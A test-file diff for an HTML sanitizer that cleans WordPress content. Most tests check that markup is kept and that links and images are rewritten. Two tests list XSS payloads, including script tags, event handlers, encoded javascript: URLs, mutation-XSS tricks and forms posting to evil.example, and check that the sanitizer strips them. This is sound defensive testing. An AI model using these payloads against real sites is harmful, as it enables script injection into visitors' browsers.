@@ -1,0 +1,145 @@
+import { expect, test } from 'vitest'
+import { toCleanHtml, toSiteHref } from './parse-html.ts'
+import { sampleContext } from '../recorded/sample-context.ts'
+
+const { context } = sampleContext({
+  frameHosts: ['www.youtube-nocookie.com'],
+  pictureUrl: (url) => url.replace('https://content.example', '/pictures'),
+})
+
+function clean(html: string): string {
+  return toCleanHtml(context, html)
+}
+
+test('keeps what an editor writes', () => {
+  const html =
+    '<h2 id="a">Wells</h2><p>Tested <strong>twice</strong> a year &amp; more.</p><ul><li>One</li></ul>' +
+    '<table><thead><tr><th scope="col">Lot</th></tr></thead><tbody><tr><td colspan="2">7</td></tr></tbody></table>'
+  expect(clean(html)).toBe(html)
+})
+
+test('lets no script in, whichever way it comes', () => {
+  const attacks = [
+    '<script>alert(1)</script>',
+    '<img src="x" onerror="alert(1)">',
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href=" java\tscript:alert(1)">x</a>',
+    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
+    '<form action="https://evil.example"><input name="password"><button>x</button></form>',
+    '<style>body{background:url(javascript:alert(1))}</style>',
+    '<div style="position:fixed;inset:0">x</div>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<object data="x.swf"></object><embed src="x"><base href="https://evil.example"><meta http-equiv="refresh">',
+    '<math><mtext><script>alert(1)</script></mtext></math>',
+    '<img srcset="javascript:alert(1) 1x">',
+  ]
+  for (const attack of attacks) {
+    expect(clean(attack)).not.toMatch(
+      /script|onerror|onload|alert\(|data:|style|<(?:form|input|button|iframe|object|embed|base|meta|svg|math)/i,
+    )
+  }
+})
+
+test('frames come from the allowed hosts only, and an empty frame goes', () => {
+  const allowed = '<iframe src="https://www.youtube-nocookie.com/embed/1" title="Tour"></iframe>'
+  expect(clean(allowed)).toBe(allowed)
+  expect(clean('<p>a</p><iframe src="https://evil.example/"></iframe>')).toBe('<p>a</p>')
+  expect(clean('<iframe src="//evil.example/"></iframe>')).toBe('')
+  expect(clean('<iframe src="/agents"></iframe>')).toBe('')
+})
+
+test("links to the content system's pages become links within the site; files and others stay", () => {
+  const site = (href: string) => toSiteHref(context, href)
+  expect(site('https://content.example/about/careers/?a=1#team')).toBe('/about/careers?a=1#team')
+  expect(site('http://content.example/')).toBe('/')
+  expect(site('https://content.example/wp-content/uploads/2026/11/flyer.pdf')).toContain(
+    'https://content.example/',
+  )
+  expect(site('https://content.example/plats/juniper.pdf')).toContain('https://content.example/')
+  expect(site('https://other.example/about')).toBe('https://other.example/about')
+  expect(site('/about')).toBe('/about')
+  expect(clean('<a href="https://content.example/homes/4/">x</a>')).toBe('<a href="/homes/4">x</a>')
+})
+
+test('a content system below a folder of its host gives up that folder only', () => {
+  const { context: below } = sampleContext({ origin: 'https://builder.example/cms' })
+  expect(toSiteHref(below, 'https://builder.example/cms/about/')).toBe('/about')
+  expect(toSiteHref(below, 'https://builder.example/shop')).toBe('https://builder.example/shop')
+  expect(toSiteHref(below, 'https://builder.example/cmsx')).toBe('https://builder.example/cmsx')
+})
+
+test('a link that opens a tab of its own cannot steer ours', () => {
+  expect(clean('<a href="https://o.example" target="_blank" rel="opener">x</a>')).toBe(
+    '<a href="https://o.example" target="_blank" rel="noopener">x</a>',
+  )
+})
+
+test('pictures get the addresses visitors are given, in every size', () => {
+  expect(
+    clean(
+      '<img src="https://content.example/a.jpg" alt="Porch" width="9" height="6" ' +
+        'srcset="https://content.example/a-1.jpg 300w, https://content.example/a-2.jpg 600w" sizes="50vw">',
+    ),
+  ).toBe(
+    '<img alt="Porch" width="9" height="6" sizes="50vw" src="/pictures/a.jpg" ' +
+      'srcset="/pictures/a-1.jpg 300w, /pictures/a-2.jpg 600w" />',
+  )
+})
+
+test('a heading of the first rank steps down, for the screen has its own', () => {
+  expect(clean('<h1 class="x">A</h1>')).toBe('<h2 class="x">A</h2>')
+})
+
+test("reads WordPress's object too, and nothing else", () => {
+  expect(toCleanHtml(context, { rendered: ' <p>a</p>\n' })).toBe('<p>a</p>')
+  for (const none of [undefined, null, false, [], {}, 5]) expect(toCleanHtml(context, none)).toBe('')
+})
+
+test('a corpus of hostile content renders inert', () => {
+  const corpus = [
+    '<scr<script>ipt>alert(1)</scr</script>ipt>',
+    '<img src=x:alert(1) onerror=eval(src) x=">">',
+    '<img src="x` `<script>alert(1)</script>"` `>',
+    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
+    '<a href="jav&#x09;ascript:alert(1)">x</a>',
+    '<a href="\u0001javascript:alert(1)">x</a>',
+    '<a href="vbscript:msgbox(1)">x</a>',
+    '<video src="x" onloadstart="alert(1)"><source onerror="alert(1)"></video>',
+    '<video><source src="javascript:alert(1)"></video>',
+    '<details ontoggle="alert(1)" open>x</details>',
+    '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
+    '<iframe src="javascript:alert(1)"></iframe><iframe src="data:text/html;base64,PHNjcmlwdD4="></iframe>',
+    '<iframe src="https://www.youtube-nocookie.com.evil.example/"></iframe>',
+    '<iframe src="https://www.youtube-nocookie.com@evil.example/"></iframe>',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+    '<textarea><script>alert(1)</script></textarea><title><script>alert(1)</script></title>',
+    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
+    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed><plaintext><script>alert(1)</script>',
+    '<template><script>alert(1)</script></template><xmp><script>alert(1)</script></xmp>',
+    '<svg><style><img src=x onerror=alert(1)></style></svg><svg><use href="data:,x#x"/></svg>',
+    '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
+    '<!--[if IE]><script>alert(1)</script><![endif]--><!-- --!><script>alert(1)</script>',
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><link rel="stylesheet" href="//evil.example">',
+    '<base href="//evil.example/"><object data="javascript:alert(1)"></object><embed src="//evil.example">',
+    '<form action="//evil.example"><input name=password formaction="javascript:alert(1)"><button>x</button></form>',
+    '<div style="background:url(javascript:alert(1))">x</div><style>@import "//evil.example"</style>',
+    '<audio autoplay onplay=alert(1) src=x></audio><marquee onstart=alert(1)>x</marquee>',
+    '<img src="a.jpg" srcset="javascript:alert(1) 1x, data:text/html,x 2x">',
+    '<a href="x" target="_blank" rel="opener" ping="//evil.example">x</a>',
+  ]
+  for (const hostile of corpus) {
+    const html = clean(hostile)
+    // Text and titles may say anything; tags and other attributes may not.
+    const bare = html.replaceAll(/ title="[^"]*"/g, '')
+    const tags = [...bare.matchAll(/<[a-z][^>]*>/gi)].map(([tag]) => tag).join('\n')
+    expect(tags, hostile).not.toMatch(
+      /\son\w+\s*=|javascript:|vbscript:|data:|srcdoc|\sping=|\sstyle=|formaction/i,
+    )
+    expect(tags, hostile).not.toMatch(
+      /<(?:script|style|svg|math|form|input|button|textarea|object|embed|base|meta|link|template|xmp|marquee|noscript)\b/i,
+    )
+    expect(tags, hostile).not.toMatch(/<iframe|evil\.example/i)
+    expect(html).not.toMatch(/<!--/)
+  }
+})
